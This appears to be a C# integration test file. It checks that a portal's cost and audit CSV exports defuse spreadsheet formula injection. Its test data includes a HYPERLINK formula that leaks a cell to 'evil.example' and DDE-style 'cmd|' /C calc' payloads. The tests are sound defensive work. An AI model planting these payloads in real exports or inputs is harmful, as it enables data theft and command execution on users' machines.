using System.Net;
using Portal.IntegrationTests.Identity;
using Portal.Web.Features.Cost;

namespace Portal.IntegrationTests.Cost;

/// <summary>
/// Issue 17, finding 12: text that a spreadsheet would run as a formula (a billing export's service or
/// provider name, a name typed into the sign-in form) comes out of every CSV export defused, while
/// negative amounts stay numbers.
/// </summary>
public sealed class CsvFormulaInjectionTests(PortalAppFactory factory) : IClassFixture<PortalAppFactory>
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";

    [Fact]
    public async Task Cost_exports_defuse_formulas_in_every_text_cell_and_keep_negative_amounts_numeric()
    {
        var day = new DateTime(2026, 9, 7, 0, 0, 0, DateTimeKind.Utc);
        var none = new Dictionary<string, string>();
        FocusRow[] rows =
        [
            FocusCsvWriter.Usage(day, 40.00m, "@SUM(1+1)*cmd|' /C calc'!A0", Hyperlink, "Compute", "+cmd|' /C calc'!A0", "-2+3", none,
                subAccount: "\t=1+1"),
            FocusCsvWriter.Usage(day.AddHours(1), -5.00m, "AWS", "Credits", "Other", "us-east-1", "credit-1", none),
        ];
        using var admin = factory.AdminClient();
        Assert.Equal(HttpStatusCode.Created, (await CostKit.ImportAsync(admin, "formulas.csv", rows)).StatusCode);
        const string period = "from=2026-09-01&to=2026-10-01";

        var byService = await CsvLinesAsync(admin, $"/api/cost/summary.csv?groupBy=service&{period}");
        Assert.Contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",40.00,40.00,0,0,", byService);
        Assert.Contains("\"Credits\",-5.00,-5.00,0,0,", byService); // a credit is a number, not text
        Assert.Contains("\"'@SUM(1+1)*cmd|' /C calc'!A0\",40.00,40.00,0,0,", await CsvLinesAsync(admin, $"/api/cost/summary.csv?groupBy=provider&{period}"));
        Assert.Contains("\"'+cmd|' /C calc'!A0\",40.00,40.00,0,0,", await CsvLinesAsync(admin, $"/api/cost/summary.csv?groupBy=region&{period}"));
        Assert.Contains(await CsvLinesAsync(admin, $"/api/cost/summary.csv?groupBy=subAccount&{period}"),
            l => l.StartsWith("\"'", StringComparison.Ordinal) && l.EndsWith("=1+1\",40.00,40.00,0,0,", StringComparison.Ordinal)); // the reader may trim the tab
        var drivers = await CsvLinesAsync(admin, $"/api/cost/drivers.csv?{period}");
        Assert.Contains(drivers, l => l.StartsWith("\"'=HYPERLINK(", StringComparison.Ordinal) && l.Contains(": -2+3\",40.00,", StringComparison.Ordinal));

        foreach (var path in new[] { "summary.csv?groupBy=service", "summary.csv?groupBy=provider", "summary.csv?groupBy=region", "summary.csv?groupBy=subAccount", "drivers.csv?x=1" })
        {
            var lines = await CsvLinesAsync(admin, $"/api/cost/{path}&{period}");
            Assert.All(lines.Skip(1), line => Assert.StartsWith("\"", line, StringComparison.Ordinal)); // every key is a quoted text cell
            Assert.DoesNotContain(lines, line => line.Contains(",=", StringComparison.Ordinal) || line.Contains(",\"=", StringComparison.Ordinal)
                || line.StartsWith("\"=", StringComparison.Ordinal) || line.StartsWith("\"+", StringComparison.Ordinal) || line.StartsWith("\"@", StringComparison.Ordinal));
        }
    }

    [Fact]
    public async Task The_audit_export_defuses_a_formula_typed_into_the_sign_in_form()
    {
        using var browser = factory.CreateClient(new Microsoft.AspNetCore.Mvc.Testing.WebApplicationFactoryClientOptions { AllowAutoRedirect = false, HandleCookies = true });
        await AccountTests.SignInAsync(browser, Hyperlink, "not-a-password-1", "/");
        using var admin = factory.AdminClient();

        var lines = await CsvLinesAsync(admin, "/api/admin/audit/export.csv?action=identity.sign-in&actor=HYPERLINK");

        var line = Assert.Single(lines.Skip(1));
        Assert.Contains(",\"user\",\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open\"\")\",\"identity.sign-in\",\"user:=HYPERLINK(", line, StringComparison.Ordinal);
    }

    private static async Task<List<string>> CsvLinesAsync(HttpClient client, string path)
    {
        var response = await client.GetAsync(new Uri(path, UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        return (await response.Content.ReadAsStringAsync()).Split(["\r\n", "\n"], StringSplitOptions.RemoveEmptyEntries).ToList();
    }
}
